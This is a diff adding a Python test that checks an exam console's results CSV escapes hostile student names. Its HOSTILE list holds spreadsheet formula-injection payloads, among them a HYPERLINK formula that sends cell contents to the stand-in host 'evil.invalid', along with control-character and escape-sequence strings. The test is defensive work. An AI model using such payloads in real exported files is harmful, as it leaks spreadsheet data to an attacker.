@@ -19,7 +19,7 @@ from operator_console.protocol.calls import ServerRefused
 from operator_console.protocol.reasons import Reason
 from operator_console.protocol.signing import document_signed
 from operator_console.server import report_pdf
-from operator_console.server.models import AuditEntry
+from operator_console.server.models import AuditEntry, Registration
 from operator_console.server.report_texts import EN, TEXTS
 from question_banks.keys import load_verify_key
 from tests.conftest import HALL_ID
@@ -352,3 +352,38 @@ def test_the_report_of_a_real_session_prints_no_english_word(
     _a_session(hall)
     pdf, data = report_pdf.session_report(hall.runtime, hall.session_id, language=language)
     assert _english_in(_text(pdf, tmp_path), data) == []
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.invalid/?"&A1,"Нажмите")',
+    "+7 701 000 00 00",
+    "-2+3",
+    "@SUM(1,1)",
+    "\tТаб",
+    "\rВозврат",
+    "Ан\x00на\x1b[31m",
+]
+
+
+def test_results_csv_cells_are_text_a_spreadsheet_never_runs(hall: Hall) -> None:
+    """Names as a hostile roster could carry them: each row reads back as the name, and no cell
+    begins as a formula does (OWASP's list), nor carries a control character."""
+    from question_banks.spreadsheet import FORMULA_START, read_cell
+
+    _a_session(hall)
+    with hall.runtime.tx() as db:
+        ids = [hall.registrations[n].registration_id for n in (1, 4)]
+        seated = db.scalars(select(Registration).where(Registration.id.in_(ids))).all()
+        for reg, name in zip(seated, HOSTILE[:2], strict=True):
+            reg.full_name = name
+    rows = list(csv.reader(io.StringIO(hall.console.results_csv(hall.session_id).decode())))
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c.startswith(FORMULA_START)] == []
+    assert {read_cell(row[3]) for row in rows[1:]} == set(HOSTILE[:2])
+    for name in HOSTILE:
+        from question_banks.spreadsheet import safe_cell
+
+        written = safe_cell(name)
+        assert not written.startswith(FORMULA_START)
+        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", written)
+        assert read_cell(written) == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", name)
